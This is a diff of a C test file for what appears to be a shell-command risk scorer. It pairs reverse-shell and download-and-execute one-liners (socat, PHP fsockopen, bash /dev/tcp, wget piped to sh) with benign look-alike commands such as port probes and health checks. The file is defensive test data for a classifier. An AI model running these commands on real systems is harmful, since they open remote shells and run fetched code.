@@ -32,6 +32,14 @@ static void test_pairs(void)
 		{ "socat tcp:10.9.8.7:443 exec:'bash -li',pty,stderr,setsid", "socat - tcp:10.9.8.7:443" },
 		{ "php -r '$s=fsockopen(\"10.2.2.2\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
 		  "php -r 'echo phpversion();'" },
+		/* benign network idioms (docs/scoring.md) against the attack that looks like them */
+		{ "bash -c 'bash -i >& /dev/tcp/10.0.0.5/5432 0>&1'",
+		  "timeout 1 bash -c 'echo > /dev/tcp/10.0.0.5/5432'" },
+		{ "exec 3<>/dev/tcp/127.0.0.1/8080; sh <&3 >&3 2>&3",
+		  "exec 3<>/dev/tcp/127.0.0.1/8080; printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3" },
+		{ "wget -qO- http://172.17.0.2:80/status | sh", "wget -qO- http://172.17.0.2:80/status" },
+		{ "until bash -i >& /dev/tcp/db/5432 0>&1; do sleep 1; done",
+		  "until nc -z db 5432; do sleep 1; done" },
 	};
 
 	for (size_t i = 0; i < sizeof(pairs) / sizeof(pairs[0]); i++) {
